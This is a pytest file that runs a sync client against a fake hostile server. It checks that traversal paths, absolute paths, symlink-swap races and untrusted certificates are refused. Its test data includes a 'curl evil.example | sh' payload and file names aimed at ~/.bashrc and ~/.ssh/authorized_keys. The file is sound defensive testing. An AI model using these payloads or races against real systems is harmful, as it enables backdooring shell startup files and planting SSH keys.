"""The sync client against a hostile server: a stand-in for the bridge's drive API (a
real aiohttp server on loopback, optionally with TLS) answering what a compromised
bridge, or anyone in the middle of plain http://, could answer. Nothing may be written
outside the local folder, nothing may crash, and what is refused is reported."""

from __future__ import annotations

import asyncio
import datetime
import hashlib
import ipaddress
import json
import os
import ssl
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from anywhere.plugins.drive.sync.credentials import Credentials
from anywhere.plugins.drive.sync.engine import Sync
from anywhere.plugins.drive.sync.manifest import Entry, Manifest
from anywhere.plugins.drive.sync.remote import Remote, Unreachable

PREFIX = "/_anywhere/drive/v1"
FOLDER = "f1"


class FakeDrive:
    """Serves one folder, ``Team``, whose tree lists ``files`` (path -> content), the
    folders in ``dirs`` and any ``raw_nodes`` as given; answers GETs of those files."""

    def __init__(
        self,
        files: dict[str, bytes],
        dirs: tuple[str, ...] = (),
        raw_nodes: tuple[Any, ...] = (),
    ) -> None:
        self.files = files
        self.dirs = dirs
        self.raw_nodes = raw_nodes
        self.before_download: Callable[[str], Awaitable[None]] | None = None
        self.before_write: Callable[[str], Awaitable[None]] | None = None
        self.downloads: list[str] = []
        self.writes: list[tuple[str, str]] = []
        self._runner: web.AppRunner | None = None

    def nodes(self) -> list[Any]:
        listed: list[Any] = [
            {"id": f"d{i}", "kind": "dir", "revision": 1, "path": path, "name": path}
            for i, path in enumerate(self.dirs)
        ]
        for i, (path, data) in enumerate(self.files.items()):
            listed.append(
                {"id": f"n{i}", "kind": "file", "revision": 1, "path": path, "name": path,
                 "size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "version": 1}
            )  # fmt: skip
        return listed + list(self.raw_nodes)

    async def start(self, ssl_context: ssl.SSLContext | None = None) -> str:
        app = web.Application()
        app.router.add_get(PREFIX + "/folders", self._folders)
        app.router.add_get(PREFIX + f"/folders/{FOLDER}/tree", self._tree)
        app.router.add_get(PREFIX + f"/folders/{FOLDER}/changes", self._changes)
        app.router.add_get(PREFIX + f"/folders/{FOLDER}/files/{{path:.*}}", self._file)
        app.router.add_route("*", PREFIX + "/{rest:.*}", self._write)
        self._runner = web.AppRunner(app)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0, ssl_context=ssl_context)
        await site.start()
        port = site._server.sockets[0].getsockname()[1]
        return f"{'https' if ssl_context else 'http'}://127.0.0.1:{port}"

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()

    async def _folders(self, request: web.Request) -> web.Response:
        folder = {"id": FOLDER, "name": "Team", "state": "joined", "owner": "@mallory:evil"}
        return web.json_response({"folders": [folder]})

    async def _tree(self, request: web.Request) -> web.Response:
        return web.json_response({"cursor": 7, "nodes": self.nodes()})

    async def _changes(self, request: web.Request) -> web.Response:
        return web.json_response({"cursor": 7, "changes": [{"seq": 7, "id": "n0"}]})

    async def _file(self, request: web.Request) -> web.Response:
        path = request.match_info["path"]
        self.downloads.append(path)
        if self.before_download is not None:
            await self.before_download(path)
        if path not in self.files:
            return web.json_response({"errcode": "M_NOT_FOUND", "error": "no"}, status=404)
        return web.Response(body=self.files[path])

    async def _write(self, request: web.Request) -> web.Response:
        self.writes.append((request.method, request.path))
        if self.before_write is not None:
            await self.before_write(request.path)
        if request.path.endswith("/mkdir"):
            return web.json_response({"id": "new", "kind": "dir", "revision": 1}, status=201)
        return web.json_response({"errcode": "M_FORBIDDEN", "error": "read-only"}, status=403)


def self_signed_certificate(directory: Path) -> tuple[Path, Path]:
    """A certificate for 127.0.0.1 signed by itself, and its key (PEM files)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = directory / "cert.pem", directory / "key.pem"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


# ----- the tests -----


def files_under(top: Path) -> dict[str, bytes]:
    """Every regular file under ``top`` and its content (links not followed)."""
    found = {}
    for folder, _, names in os.walk(top):
        for name in names:
            path = Path(folder) / name
            if path.is_file() and not path.is_symlink():
                found[str(path.relative_to(top))] = path.read_bytes()
    return found


async def run_sync(url: str, root: Path, **kwargs: Any):
    remote = Remote(Credentials("http://hs", url, "@kim:hs", "tok", "D"))
    try:
        return await Sync(remote, await remote.folder_id("Team"), root, **kwargs).run()
    finally:
        await remote.close()


@pytest.fixture
async def serve():
    servers: list[FakeDrive] = []

    async def start(drive: FakeDrive, ssl_context: ssl.SSLContext | None = None) -> str:
        servers.append(drive)
        return await drive.start(ssl_context)

    yield start
    for drive in servers:
        await drive.stop()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A person's home: a ~/.bashrc worth stealing, and the synced folder ~/Team."""
    home = tmp_path / "home"
    (home / "Team").mkdir(parents=True)
    (home / ".bashrc").write_text("the person's own .bashrc\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA the person's key\n")
    return home


def hostile_files(home: Path) -> dict[str, bytes]:
    evil = b"curl evil.example | sh\n"
    return {
        "../x": evil,
        str(home / ".bashrc"): evil,  # the absolute path of an existing file
        "a/../../y": evil,
        "docs/../../.ssh/authorized_keys": evil,
        "C:/Windows/evil.txt": evil,
        "\\\\server\\share\\evil.txt": evil,
        ".anywhere-sync/manifest.db": b"not a database",
        ".anywhere-sync/lock": b'{"pid": 1, "host": "elsewhere"}',
        ".Anywhere-Sync/lock": b"the state folder on a disk that folds case",
        "ok.txt": b"an honest file",
    }


async def test_paths_from_a_hostile_server_are_skipped_and_nothing_is_written_outside(serve, home):
    drive = FakeDrive(
        hostile_files(home),
        raw_nodes=(
            "not a node",
            {"path": 5, "kind": "file"},
            {"path": "bad-kind", "kind": "symlink", "id": "z", "revision": 1},
            {"path": "bad-sha.txt", "kind": "file", "id": "q", "revision": 1,
             "sha256": "../../etc", "size": 1},
        ),
    )  # fmt: skip
    url = await serve(drive)
    before = files_under(home)

    report = await run_sync(url, home / "Team")

    after = files_under(home)
    changed = {p for p in after if before.get(p) != after[p]} | (set(before) - set(after))
    state = {p for p in changed if p.startswith("Team/.anywhere-sync/")}
    assert changed - state == {"Team/ok.txt"}, changed  # the only file written
    assert after["Team/ok.txt"] == b"an honest file"
    assert drive.downloads == ["ok.txt"]  # nothing else was even fetched
    skipped = "\n".join(report.skipped)
    for path, reason in [
        ("'../x'", "'..'"),
        (repr(str(home / ".bashrc")), "absolute"),
        ("'a/../../y'", "'..'"),
        ("'docs/../../.ssh/authorized_keys'", "'..'"),
        ("'C:/Windows/evil.txt'", "absolute"),
        ("'.anywhere-sync/manifest.db'", "reserved"),
        ("'.anywhere-sync/lock'", "reserved"),
        ("'.Anywhere-Sync/lock'", "reserved"),
        ("5", "must be text"),
        ("'bad-kind'", "neither 'file' nor 'dir'"),
        ("'bad-sha.txt'", "not a SHA-256"),
    ]:
        assert f"{path} from the drive: " in skipped and reason in skipped, (path, skipped)
    assert "nothing was written for it" in skipped
    assert "skipped: " in report.summary()
    assert not report.errors

    again = await run_sync(url, home / "Team")  # the state folder was not disturbed
    assert again.skipped == report.skipped
    assert _outside_state(files_under(home)) == _outside_state(after)


def _outside_state(files: dict[str, bytes]) -> dict[str, bytes]:
    return {p: data for p, data in files.items() if not p.startswith("Team/.anywhere-sync/")}


async def test_the_command_line_reports_refused_paths_and_does_not_exit_0(serve, home, tmp_path):
    url = await serve(FakeDrive(hostile_files(home)))
    config = tmp_path / "config"
    (config / "anywhere").mkdir(parents=True)
    (config / "anywhere" / "drive.json").write_text(
        json.dumps({"homeserver": "http://hs", "bridge_url": url, "user_id": "@kim:hs",
                    "access_token": "tok", "device_id": "D"})
    )  # fmt: skip
    env = {**os.environ, "XDG_CONFIG_HOME": str(config)}
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "anywhere.plugins.drive.sync", "sync", str(home / "Team"), "Team",
        env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, err = await asyncio.wait_for(process.communicate(), 60)
    stdout, stderr = out.decode(), err.decode()
    assert process.returncode == 1, (stdout, stderr)
    assert "Traceback" not in stderr
    assert "skipped: '../x' from the drive: '../x' contains '.' or '..'" in stderr
    assert "is an absolute path" in stderr
    assert "download: 1; skipped: 9" in stdout
    assert (home / ".bashrc").read_text() == "the person's own .bashrc\n"
    assert not (home / "x").exists()


async def test_a_folder_swapped_for_a_link_during_the_download_is_not_written_through(serve, home):
    """The race: ``docs`` is a real folder when the sync looks, and a link to ~/.ssh by
    the time the download is put in place. The write goes through the folder's
    descriptors, so it is refused."""
    team = home / "Team"
    (team / "docs").mkdir()
    drive = FakeDrive({"docs/authorized_keys": b"ssh-ed25519 AAAA mallory\n"}, dirs=("docs",))

    async def swap(path: str) -> None:
        (team / "docs").rmdir()
        (team / "docs").symlink_to(home / ".ssh")

    drive.before_download = swap
    url = await serve(drive)

    report = await run_sync(url, team)

    assert drive.downloads == ["docs/authorized_keys"]  # the swap did happen
    assert (home / ".ssh" / "authorized_keys").read_text() == "ssh-ed25519 AAAA the person's key\n"
    assert sorted(os.listdir(home / ".ssh")) == ["authorized_keys"]
    assert any(
        line.startswith("docs/authorized_keys: docs is a symbolic link here")
        for line in report.skipped
    ), report


async def test_a_folder_swapped_for_a_link_before_an_upload_is_not_read_through(serve, home):
    """The same race on the way out: ``up`` is a real folder at the scan and a link to
    ~/.ssh when its file is read for the upload; nothing from ~/.ssh is sent."""
    team = home / "Team"
    (team / "up").mkdir()
    (team / "up" / "authorized_keys").write_text("a harmless file")
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    drive = FakeDrive({})

    async def swap(path: str) -> None:  # the sync makes the folder before the upload
        (team / "up" / "authorized_keys").unlink()
        (team / "up").rmdir()
        (team / "up").symlink_to(home / ".ssh")

    drive.before_write = swap
    url = await serve(drive)

    report = await run_sync(url, team)

    assert [method for method, _ in drive.writes] == ["POST"]  # the mkdir; no PUT
    assert any(line.startswith("up/authorized_keys: up is a symbolic link here") for line in
               report.skipped), report  # fmt: skip


async def test_two_server_paths_that_differ_only_by_case_keep_the_first(serve, home):
    url = await serve(FakeDrive({"Report.txt": b"first", "report.txt": b"second"}))
    report = await run_sync(url, home / "Team")
    assert (home / "Team" / "Report.txt").read_bytes() == b"first"
    assert not (home / "Team" / "report.txt").exists()
    assert report.skipped == [
        "'report.txt' from the drive: it is listed already (as 'Report.txt'; names differing "
        "only by case or accents are one name on the drive)"
    ]


async def test_https_with_a_self_signed_certificate_is_refused_unless_trusted(
    serve, home, tmp_path, monkeypatch
):
    cert, key = self_signed_certificate(tmp_path)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)
    url = await serve(FakeDrive({"ok.txt": b"over https"}), context)
    assert url.startswith("https://")
    monkeypatch.delenv("SSL_CERT_FILE", raising=False)

    with pytest.raises(Unreachable, match="certificate.*not trusted.*SSL_CERT_FILE"):
        await run_sync(url, home / "Team")
    assert not (home / "Team" / "ok.txt").exists()

    monkeypatch.setenv("SSL_CERT_FILE", str(cert))  # the operator's own CA, configured
    report = await run_sync(url, home / "Team")
    assert report.done == {"download": 1}
    assert (home / "Team" / "ok.txt").read_bytes() == b"over https"


async def test_a_manifest_holding_paths_from_an_unchecked_answer_is_cleaned_once(serve, home):
    """A client without the checks may have stored a hostile server's paths in its
    manifest: they are forgotten (and said) on the first run, then not checked again."""
    team = home / "Team"
    manifest = Manifest(team / ".anywhere-sync" / "manifest.db")
    manifest.set_meta("folder", FOLDER)
    for path in ("../x", str(home / ".bashrc")):
        manifest.put(Entry(path, "n9", "file", 1, "0" * 64, 1, 1))
    manifest.close()
    url = await serve(FakeDrive({"ok.txt": b"fine"}))

    report = await run_sync(url, team)
    assert [n.split(":")[0] for n in report.notes] == [
        "forgot '../x' from an earlier sync",
        f"forgot {str(home / '.bashrc')!r} from an earlier sync",
    ]
    assert report.done == {"download": 1}
    assert (home / ".bashrc").read_text() == "the person's own .bashrc\n"
    again = await run_sync(url, team)
    assert not again.notes


async def test_login_to_a_homeserver_with_a_self_signed_certificate_is_refused(serve, tmp_path):
    cert, key = self_signed_certificate(tmp_path)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)
    url = await serve(FakeDrive({}), context)
    env = {k: v for k, v in os.environ.items() if k != "SSL_CERT_FILE"}
    env |= {"XDG_CONFIG_HOME": str(tmp_path / "config"), "ANYWHERE_DRIVE_PASSWORD": "pw"}
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "anywhere.plugins.drive.sync", "login", "--homeserver", url,
        "--user", "@kim:hs", "--bridge", url,
        env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    _, err = await asyncio.wait_for(process.communicate(), 60)
    assert process.returncode == 1
    assert f"the homeserver at {url} has a certificate that is not trusted" in err.decode()
    assert "SSL_CERT_FILE" in err.decode() and "Traceback" not in err.decode()
    assert not (tmp_path / "config" / "anywhere" / "drive.json").exists()
